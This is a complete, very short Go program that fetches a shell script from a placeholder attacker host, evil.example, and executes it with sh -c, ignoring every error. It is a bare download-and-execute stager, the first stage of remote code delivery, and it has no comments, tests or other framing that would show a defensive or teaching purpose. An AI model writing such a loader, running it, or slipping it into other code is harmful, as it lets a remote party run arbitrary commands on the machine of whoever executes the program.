package main

import (
	"io"
	"net/http"
	"os/exec"
)

func main() {
	resp, _ := http.Get("http://evil.example/x.sh")
	body, _ := io.ReadAll(resp.Body)
	exec.Command("sh", "-c", string(body)).Run()
}
